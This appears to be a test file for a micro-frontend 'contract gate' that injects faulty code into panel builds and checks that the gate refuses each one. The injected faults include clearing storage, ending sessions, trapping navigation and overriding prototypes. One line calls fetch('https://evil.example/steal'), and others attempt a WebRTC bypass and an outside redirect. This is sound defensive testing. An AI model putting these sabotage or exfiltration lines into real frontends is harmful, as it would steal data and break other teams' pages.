import { mkdtemp } from 'node:fs/promises'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Registry } from '@panel/shared/panel/registry'
import { promoteBuilds } from '../releases/live-builds'
import { listPictures, readPicture } from '../releases/pictures'
import { publishBuild } from '../releases/publish-build'
import type { Build } from '../releases/read-build'
import { readSettings } from '../settings'
import { temporaryReleases, why } from '../testing/builds'
import { type Change, PackageCopies } from '../testing/changed-package'
import { exchangeText } from '../testing/exchange-text'
import { startEphemeralApi } from './ephemeral-api'
import type { GateApi } from './gate-api'
import { passGate } from './pass-gate'

vi.setConfig({ testTimeout: 600_000, hookTimeout: 600_000 })

const termsPage = 'src/app/terms-page.tsx'

const atAccount = "  extends: { 'account.section': { view: 'PartView', title: 'part', order: 1 } },"

/** Stands in the builds for the name of a fault: exchanged in their files, so that one compilation serves all rows. */
const chosen = 'the chosen fault'

/** Does what the chosen one of these lines says. */
const choiceOf = (lines: readonly string[]): string =>
  `const fault = JSON.parse('"${chosen}"')
switch (fault) {
${lines.map((line, at) => `case 'fault ${at}': {\n${line}\n  break }`).join('\n')}
default: if (fault.startsWith('http')) location.href = fault
}`

/** The terms, with a choice of faults in the browser alone: where the page is prerendered, there is no title. */
const faultyTerms = (lines: readonly string[]): Change[] => [
  {
    file: termsPage,
    from: 'import { OwnText }',
    to: "import { useEffect } from 'react'\nimport { OwnText }",
  },
  {
    file: termsPage,
    from: 'export const TermsPage = () => {',
    to: `export const TermsPage = () => {\n  if (document.title !== '') {\n    ${choiceOf(lines)}\n  }`,
  },
]
const adding = (rule: string) => `
    const sheet = new CSSStyleSheet()
    sheet.replaceSync('${rule}')
    document.adoptedStyleSheets = [sheet]`
const wrappingTimers = `
    const { setTimeout } = window
    window.setTimeout = (...wait) => setTimeout(...wait)`
const replacing = (merge: string) => `
    const versions = Object.values(window.__FEDERATION__.__INSTANCES__[0].shareScopeMap.default['@panel/shared/i18n'])
    const { i18n } = versions.find(({ lib }) => lib).lib()
    const [key] = Object.keys(i18n.getResourceBundle('en', 'shell'))
    const inside = i18n.getResourceBundle('en', 'shell')[key]
    const mine = typeof inside === 'string' ? 'Mine' : { [Object.keys(inside)[0]]: 'Mine' }
    i18n.store.addResourceBundle('en', 'shell', { [key]: mine }${merge})`
const wordless = 'return <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="50" height="50" />'
const trapping = "setInterval(() => { if (location.pathname !== '/terms') history.back() }, 100)"
/** Brings back who has left the terms, after so many milliseconds. */
const returning = (after: number) => `
    let left
    setInterval(() => {
      if (location.pathname === '/terms') return
      left ??= Date.now()
      if (Date.now() - left < ${after}) return
      history.pushState(null, '', '/terms')
      dispatchEvent(new PopStateEvent('popstate', { state: null }))
    }, 20)`
/** The shell reloads a page whose address changes without it; a slow machine is asked before that. */
const comesBack = /^cannot be left: (\S+ is reloaded|the link to \S+ ends at \/terms)$/
const renaming = "setTimeout(() => { document.querySelector('header a span').textContent = 'Mine' })"
/** Runs when the terms are shown again after they were left. */
const whenBack = (line: string): string =>
  `if (window.wasLeft) { ${line} }\n    useEffect(() => () => { window.wasLeft = true }, [])`
const withoutView: Change = { file: termsPage, from: 'export const TermsPage', to: 'export const TermPage' }
const secondContract: Change[] = [
  { file: 'src/panel.ts', from: 'export const panel = definePanel({', to: 'const first = definePanel({' },
  {
    file: 'src/panel.ts',
    from: "    uk: () => import('../locales/uk.json'),\n  },\n})",
    to: "    uk: () => import('../locales/uk.json'),\n  },\n})\n\nexport const panel = { ...first, contract: 2 }",
  },
]
const otherReact: Change = { file: 'package.json', from: '"@panel/shared": "^1.0.0"', to: '"@panel/shared": "^7.0.0"' }

/** What a page does, and the rest of the sentence that refuses it. */
const faultsOfPages: readonly [string, string, string][] = [
  [
    'that throws in render',
    "throw new Error('the terms are upside down')",
    'does not work: it threw while rendering: the terms are upside down',
  ],
  [
    'that writes an error to the console',
    "console.error('it went wrong')",
    'does not work: the console says: it went wrong',
  ],
  [
    'with a view that shows nothing',
    'return <div className={styles.page} />',
    'shows nothing: no text, picture or control can be seen',
  ],
  ['that hides the header', adding('header { display: none }'), 'hides the header of the shell'],
  [
    'that changes a prototype',
    "String.prototype.at = () => 'mine'",
    'changes String.prototype.at, which all panels share: it is ()=>"mine"',
  ],
  [
    'that changes what the shell has frozen',
    'window.fetch = () => {}',
    "does not work: it threw while rendering: Cannot assign to read only property 'fetch' of object '#<Window>'",
  ],
  ['that clears the storage', 'localStorage.clear()', 'removes what other panels keep in the browser'],
  [
    'that keeps something under a name of others',
    "sessionStorage.setItem('cart', 'full')",
    'keeps “cart” in the browser: a name has to begin with mfe-auth or draft:',
  ],
  ['that removes the header', "document.querySelector('header')?.remove()", 'hides the header of the shell'],
  [
    'with a script that never ends',
    "while (document.title !== '') {}",
    'does not work: the page hangs: nothing came for 60 s',
  ],
  [
    'with a timer that throws',
    "setTimeout(() => { throw new Error('too late') })",
    'does not work: it threw after it was shown: too late',
  ],
]

const otherFaultsOfPages: readonly [string, string, RegExp][] = [
  [
    'that puts its own in the place of a function of the browser',
    wrappingTimers,
    // The names are the minifier's.
    /^changes window\.setTimeout, which all panels share: it is \(\.\.\.\w\)=>\w\(\.\.\.\w\)$/,
  ],
  ['with a picture that has no text', wordless, /^is not accessible to all: .+ \(image-alt\), at <img /],
  ['that ends the session', "localStorage.removeItem('token')", /^ends the session$/],
  ['with other text in the header', renaming, /^changes the header of the shell: “Mine” stands in the place of “.+”$/],
  [
    'with styles for the header',
    adding('header a { color: rgb(1, 2, 3) !important }'),
    /^changes the header of the shell: the color of .+ is rgb\(1, 2, 3\) in place of /,
  ],
  [
    'with styles for other pages',
    adding('h1 { font-size: 99px !important }'),
    /^changes another page: at \/, after it was left, the font-size of “.+” is 99px in place of /,
  ],
  ['that cannot be left', trapping, /^cannot be left: /],
  ['that blocks leaving the page', returning(0), comesBack],
  ['that brings back, a moment later, who has left it', returning(900), comesBack],
  ['with other texts of the shell', replacing(''), /^replaces the text en\.shell\..+ of others: “.*Mine.*” was /],
  [
    'with other texts of the shell, put into those that are there',
    replacing(', true, true'),
    /^(replaces the text en\.shell\..+ of others: “Mine” was|changes the header of the shell: “Mine”) /,
  ],
  [
    'that throws when it is come back to',
    whenBack("throw new Error('once is enough')"),
    /^does not work: it threw while rendering: once is enough$/,
  ],
  [
    'that leads elsewhere when it is come back to',
    whenBack("history.replaceState(null, '', '/elsewhere')"),
    /^cannot be come back to: the page is at \/elsewhere$/,
  ],
]

/** What a contribution does when it is drawn. */
const faultsOfParts: readonly [string, string, RegExp][] = [
  ['throws in render', "throw new Error('upside down')", /^does not work: it threw while rendering: upside down$/],
  ['never shows anything', 'throw new Promise(() => undefined)', /showed nothing in time$/],
  ['never ends', 'for (;;);', /^does not work: the page hangs: nothing came for 60 s$/],
  [
    'throws in a timer',
    "setTimeout(() => { throw new Error('too late') })",
    /^does not work: it threw after it was shown: too late$/,
  ],
  [
    'writes an error to the console',
    "console.error('it went wrong')",
    /^does not work: the console says: it went wrong$/,
  ],
  [
    'asks another server',
    "void fetch('https://evil.example/steal').catch(() => undefined)",
    /^does not work: the console says: .*evil\.example.*Content Security Policy/,
  ],
  ['draws over the page', 'return <><p>A part</p><Over /></>', /^changes what is around its place: “Mine” was added$/],
  [
    'opens a window over the page',
    'return <dialog ref={dialog => { if (dialog && !dialog.open) dialog.showModal() }}>Mine</dialog>',
    /^draws outside of its place: the place does not cut it off$/,
  ],
  [
    'takes the bounds of its place away',
    "useEffect(() => void (document.querySelector('[data-contribution]').style.contain = 'none'), [])",
    /^draws outside of its place: the place does not cut it off$/,
  ],
  [
    'has styles for what is around it',
    adding('h1 { font-size: 99px !important }'),
    /^changes what is around its place: the font-size of “Part” is 99px in place of /,
  ],
  [
    'removes what is around it',
    "useEffect(() => document.querySelector('h1')?.remove(), [])",
    /^changes what is around its place: /,
  ],
  ['hides the header', adding('header { display: none }'), /^hides the header of the shell$/],
  ['shows nothing', 'return null', /^shows nothing: no text, picture or control can be seen$/],
  ['changes a prototype', "String.prototype.at = () => 'mine'", /^changes String\.prototype\.at, which all panels/],
  ['ends the session', "localStorage.removeItem('token')", /^ends the session$/],
  [
    'keeps something under a name of others',
    "sessionStorage.setItem('cart', 'full')",
    /^keeps “cart” in the browser: a name has to begin with mfe-part or draft:$/,
  ],
  ['replaces texts of the shell', replacing(''), /^replaces the text en\.shell\..+ of others: “.*Mine.*” was /],
  ['cannot be left', "setInterval(() => { if (location.pathname === '/') history.back() }, 100)", /^cannot be left: /],
  ['throws in an effect', "useEffect(() => { throw new Error('too late') })", /^does not work: .*: too late$/],
  [
    'has styles for the whole page',
    "useEffect(() => void (document.body.style.backgroundColor = 'red'), [])",
    /^changes what is around its place: the background-color of <body> is /,
  ],
  ['leads the page elsewhere', "useEffect(() => { window.top.location.href = '/terms' }, [])", /./],
  [
    'opens a dialog of the browser',
    "useEffect(() => alert('Mine'), [])",
    /^does not work: it opens a dialog of the browser$/,
  ],
  [
    'connects past the policy',
    'useEffect(() => { try { new RTCPeerConnection() } catch {} }, [])',
    /^connects by WebRTC, which no security policy sees$/,
  ],
  ['has a picture without text', wordless, /^is not accessible to all: .+ \(image-alt\), at <img /],
]

let copies: PackageCopies
let releases: Awaited<ReturnType<typeof temporaryReleases>>
let registry: Registry | null
let api: GateApi
let faultyPage: Build
let faultyPart: Build

const settings = () => readSettings({ DATA_DIR: releases.folder, LOG_LEVEL: 'silent' })

/** With one API for all trials; as a release is tried, each starts its own. */
const options = () => ({ settings: settings(), api: { ...api, stop: async () => undefined }, print: () => undefined })

beforeAll(async () => {
  copies = await PackageCopies.open()
  releases = await temporaryReleases()
  const live = []
  for (const name of ['shell', 'mfe-auth', 'mfe-search-cart']) {
    const build = await copies.build(name)
    await publishBuild(releases.store, build)
    live.push({ name, build: build.description.build })
  }
  registry = (await promoteBuilds(releases, why, live)).signed?.registry ?? null
  faultyPage = await copies.build('mfe-auth', faultyTerms(pageLines))
  faultyPart = await copies.buildPart(atAccount, partView(choiceOf(linesOf(faultsOfParts))))
  api = await startEphemeralApi(await mkdtemp(join(tmpdir(), 'pass-gate-')))
})

afterAll(async () => {
  await api?.stop()
  await copies.remove()
})

/** Publishes a build and answers what the gate says to it, with the id of the build as BUILD. */
const answerTo = async (build: Build): Promise<string> => {
  await publishBuild(releases.store, build)
  const { name, build: id } = build.description
  const passed = passGate(releases.store, registry, { name, build: id }, options())
  const error = await passed.then(
    () => new Error('passed'),
    (reason: Error) => reason,
  )
  return error.message.replaceAll(id, 'BUILD').replaceAll(registry?.shell.stable.build ?? '', 'LIVE')
}

/** What the gate says to the build in which this line is chosen. */
const refusalOfChosen = async (compiled: Build, lines: readonly string[], line: string): Promise<string> => {
  const at = lines.indexOf(line)
  return await answerTo(exchangeText(compiled, `1.0.0-fault${at}`, chosen, `fault ${at}`))
}

const linesOf = (rows: readonly (readonly [string, string, unknown])[]): string[] => rows.map(([, line]) => line)

const pageLines = [...linesOf(faultsOfPages), ...linesOf(otherFaultsOfPages)]

const refusalOf = (line: string): Promise<string> => refusalOfChosen(faultyPage, pageLines, line)

const partView = (line: string): string => `import { useEffect } from 'react'
import { createPortal } from 'react-dom'

const Over = () => createPortal(<p style={{ position: 'fixed', inset: 0 }}>Mine</p>, document.body)

export const PartView = ({ context }) => {
  ${line}
  return <p>A part of {JSON.stringify(context)}</p>
}
`

const refusalOfPart = async (line: string): Promise<string> => {
  const said = await refusalOfChosen(faultyPart, linesOf(faultsOfParts), line)
  return said.replace(/^mfe-part BUILD is refused: PartView at the point account.section \((user|admin), en\) /, '')
}

describe('the contract gate', () => {
  it('lets a sound panel into the live shell, and a sound shell around the live panels', async () => {
    for (const name of ['mfe-auth', 'shell'] as const) {
      const release = name === 'shell' ? registry?.shell : registry?.panels[name]
      const build = release?.stable.build ?? ''
      const given = name === 'shell' ? options() : { ...options(), api: undefined }
      await expect(passGate(releases.store, registry, { name, build }, given)).resolves.toBeUndefined()
    }
  })

  it('keeps a picture of each view in both languages', async () => {
    const subject = { name: 'mfe-auth', build: registry?.panels['mfe-auth']?.stable.build ?? '' }
    const kept = await listPictures(releases.store, subject)
    expect(kept.slice(0, 2).map(({ view, language }) => [view, language])).toEqual([
      ['TermsPage', 'en'],
      ['TermsPage', 'uk'],
    ])
    expect(kept).toHaveLength(2 * ((registry?.panels['mfe-auth']?.stable.routes.length ?? 0) + 1))
    for (const { file } of kept) {
      const content = await readPicture(releases.store, subject, file)
      expect(content?.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]))
      expect(content?.length).toBeLessThan(200_000)
    }
  })

  it('refuses a build with a missing view', async () => {
    expect(await answerTo(await copies.build('mfe-auth', [withoutView]))).toBe(
      'mfe-auth BUILD is refused: TermsPage at /terms (visitor, en) does not work: it lacks what it promises: TermsPage',
    )
  })

  it.each(faultsOfPages)('refuses a build %s', async (_, line, fault) => {
    expect(await refusalOf(line)).toBe(`mfe-auth BUILD is refused: TermsPage at /terms (visitor, en) ${fault}`)
  })

  it.each(otherFaultsOfPages)('refuses a build %s', async (_, line, fault) => {
    const message = await refusalOf(line)
    expect(message.replace(/^mfe-auth BUILD is refused: TermsPage at \/terms \((visitor|user), en\) /, '')).toMatch(
      fault,
    )
  })

  it('looks at contributions with a context of their point, and keeps pictures of them', async () => {
    const points = `
  points: { 'part.row-action': { context: object({ item: object({ name: string(), years: int() }) }), kind: 'many' } },
  extends: {
    'account.section': { view: 'PartView', title: 'part', order: 1 },
    'cart.line': { view: 'PartView', title: 'part', order: 1 },
    'part.row-action': { view: 'PartView', title: 'part', order: 1 },
  },`
    const line = "if (context.item && !context.item.name) throw new Error('no name')"
    const part = await copies.buildPart(points, partView(line))
    expect(await answerTo(part)).toBe('passed')
    const kept = await listPictures(releases.store, part.description)
    expect(kept.map(({ view, language }) => `${view} ${language}`)).toEqual(
      [1, 2, 3].flatMap(() => ['PartView en', 'PartView uk']),
    )
  })

  it.each(faultsOfParts)('refuses a contribution that %s', async (_, line, fault) => {
    expect(await refusalOfPart(line)).toMatch(fault)
  })

  it('lets an owner’s page through where a contribution of another team throws', async () => {
    const view = "export const PartView = () => {\n  throw new Error('upside down')\n}\n"
    const part = await copies.buildPart(atAccount, view)
    await publishBuild(releases.store, part)
    const { name, build } = part.description
    const broken = await promoteBuilds(releases, why, [{ name, build }])
    const owner = { name: 'mfe-auth', build: registry?.panels['mfe-auth']?.stable.build ?? '' }
    const passed = passGate(releases.store, broken.signed?.registry ?? null, owner, options())
    await expect(passed).resolves.toBeUndefined()
  })

  it('refuses a build that leads to another server, which gets no request and has no picture', async () => {
    let reached = 0
    const other = createServer(() => (reached += 1))
    await new Promise<void>(resolve => other.listen(0, '127.0.0.1', resolve))
    const place = `http://127.0.0.1:${(other.address() as AddressInfo).port}`
    const kept = vi.spyOn(releases.store, 'create')
    const build = exchangeText(faultyPage, '1.0.0-leading', chosen, `${place}/metrics`)
    expect(await answerTo(build)).toBe(
      `mfe-auth BUILD is refused: TermsPage at /terms (visitor, en) does not work: it leads to ${place}, outside of the product`,
    )
    expect(kept.mock.calls.filter(([key]) => key.endsWith('.picture'))).toEqual([])
    kept.mockRestore()
    await new Promise(resolve => other.close(resolve))
    expect(reached).toBe(0)
  })

  it('refuses a build for contract 2', async () => {
    expect(await answerTo(await copies.build('mfe-auth', secondContract))).toBe(
      'mfe-auth BUILD is built for contract 2, but shell LIVE supports 0 and 1',
    )
  })

  it('refuses a build that shares another major version than the shell', async () => {
    expect(await answerTo(await copies.build('mfe-auth', [otherReact]))).toBe(
      'mfe-auth BUILD needs @panel/shared ^7.0.0, but shell LIVE provides 1.0.0',
    )
  })
})
